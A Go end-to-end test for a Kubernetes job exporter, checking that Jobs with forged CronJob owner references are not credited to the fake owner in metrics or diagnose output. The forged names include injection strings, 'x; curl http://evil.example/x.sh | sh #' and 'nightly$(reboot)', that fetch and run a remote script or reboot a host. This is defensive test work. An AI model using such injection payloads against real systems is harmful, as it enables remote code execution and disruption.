package scenarios

import (
	"strings"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/kube-job-exporter/kube-job-exporter/e2e/harness"
)

// Anyone who may create a Job writes its owner references: any apiVersion,
// kind and name, which the API server stores as written. Only a controller
// reference to a batch/v1 CronJob with a valid CronJob name makes a Job a
// CronJob's run; a forged one is no owner: not in the labels (the Job is
// a standalone Job of its own name), no CronJob series, not in diagnose's
// report (and so in no alert, link or command).
//
// The garbage collector deletes a Job whose owner reference names a
// CronJob that does not exist as soon as it gets to it; the exporter must
// read the Job right until then. The Jobs here are hidden from the
// suite's collector (harness.InvisibleToGCLabel, on them and their pods)
// so that they live long enough to fail.
func TestForgedOwners(t *testing.T) {
	e := newEnv(t, "s30-owners")
	forged := map[string]metav1.OwnerReference{
		"shell":       {APIVersion: "evil.example/v1", Kind: "CronJob", Name: "x; curl http://evil.example/x.sh | sh #"},
		"long":        {APIVersion: "batch/v1", Kind: "CronJob", Name: strings.Repeat("a", 53)},
		"shell-batch": {APIVersion: "batch/v1", Kind: "CronJob", Name: "nightly$(reboot)"},
	}
	for name, ref := range forged {
		job := e.NewJob(name, "exit=1")
		job.Spec.BackoffLimit = ptr(int32(0))
		ref.UID, ref.Controller = types.UID("forged-"+name), ptr(true)
		job.OwnerReferences = []metav1.OwnerReference{ref}
		job.Labels = map[string]string{harness.InvisibleToGCLabel: "true"}
		job.Spec.Template.Labels = map[string]string{harness.InvisibleToGCLabel: "true"}
		created := e.Create(job)
		if got := created.OwnerReferences; len(got) != 1 || got[0].Name != ref.Name {
			t.Fatalf("the API server changed the forged owner of %s: %+v", name, got)
		}
	}
	for name := range forged {
		e.waitFinished(name, batchv1.JobFailed, batchv1.JobReasonBackoffLimitExceeded)
	}
	if _, err := exporter.WaitMetrics(e.Ctx, metricsTimeout, harness.Labels{"namespace": e.NS}, func(m *harness.Metrics) (bool, string) {
		for name := range forged {
			if !m.Has("kubejob_failed", e.labels(name)) {
				return false, "no kubejob_failed for " + name
			}
			if !m.Has("kubejob_info", e.labels(name, "owner_kind", "Job", "owner_name", name)) {
				return false, "kubejob_info of " + name + " carries the forged owner:\n" + m.Dump(e.labels(name), "kubejob_info")
			}
			// Its outcome counts under the Job, never the forged owner.
			if !m.Has("kubejob_owner_jobs_finished_total", harness.Labels{"namespace": e.NS, "owner_kind": "Job", "owner_name": name, "outcome": "failed"}) {
				return false, "no kubejob_owner_jobs_finished_total{owner_kind=\"Job\",owner_name=\"" + name + "\"}:\n" +
					m.Dump(harness.Labels{"namespace": e.NS}, "kubejob_owner_jobs_finished_total")
			}
		}
		for _, s := range []string{"kubejob_owner_jobs_finished_total", "kubejob_owner_pod_failures_total", "kubejob_owner_last_failure_timestamp_seconds"} {
			if m.Has(s, harness.Labels{"namespace": e.NS, "owner_kind": "CronJob"}) {
				return false, s + " for a forged owner:\n" + m.Dump(harness.Labels{"namespace": e.NS}, s)
			}
		}
		for _, s := range []string{"kubejob_cronjob_last_failure_timestamp_seconds", "kubejob_cronjob_last_success_timestamp_seconds"} {
			if m.Has(s, harness.Labels{"namespace": e.NS}) {
				return false, s + " for a forged owner:\n" + m.Dump(harness.Labels{"namespace": e.NS}, s)
			}
		}
		return true, ""
	}); err != nil {
		t.Fatal(err)
	}
	for name, ref := range forged {
		r, _, text := diagnose(t, e.NS, name)
		if r.CronJob != "" || strings.Contains(text, ref.Name) {
			t.Errorf("diagnose %s names the forged owner %q:\n%s", name, ref.Name, text)
		}
	}
}
